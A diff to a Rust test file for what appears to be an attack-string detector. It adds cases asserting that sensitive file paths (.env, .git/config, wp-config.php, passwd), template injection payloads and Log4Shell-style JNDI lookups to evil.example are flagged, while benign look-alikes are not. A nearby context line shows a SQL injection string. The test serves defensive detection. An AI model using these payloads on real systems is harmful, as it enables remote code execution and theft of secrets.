@@ -523,6 +523,53 @@ fn finds_what_a_template_engine_would_run() {
 }
 
 #[test]
+fn finds_names_of_files_and_of_templates_that_give_settings_away() {
+    assert_found(
+        Class::Path,
+        &[
+            "/.env",
+            "/.git/config",
+            ".git/HEAD",
+            "/srv/www/wp-config.php",
+            "META-INF/context.xml",
+            "\\etc\\passwd",
+            "index.php::$DATA",
+            "x.php%00.jpg",
+            "compress.bzip2://x",
+            "data:text/plain;base64,PD9waHAgZigpOz8+",
+        ],
+    );
+    assert_found(
+        Class::Template,
+        &[
+            "{{config['SECRET_KEY']}}",
+            "{{settings.SECRET_KEY}}",
+            "{{request.environ}}",
+            "{{['id']|sort('system')}}",
+            "<#assign x=7>",
+            "{$smarty.version}",
+            "${ jndi:ldap://evil.example/a}",
+            "${j${x:-n}di:ldap://evil.example/a}",
+        ],
+    );
+    for value in [
+        ".env",
+        "wp-config.php",
+        ".gitignore",
+        "git@example.com:a/b.git",
+        "/a/b.git/info/refs",
+        "{{settings.name}} and {{config.title}}",
+        "<# of items>",
+        "{$name}",
+        "${a:-${b:-c}}",
+        "`${n} of ${count}`",
+        "std::vector::data",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_an_attack_in_the_middle_of_a_long_value() {
     for (prose, attack) in [
         ("It's a long story, and then (so they say) it went on. ", "x' union select name, secret from staff-- "),
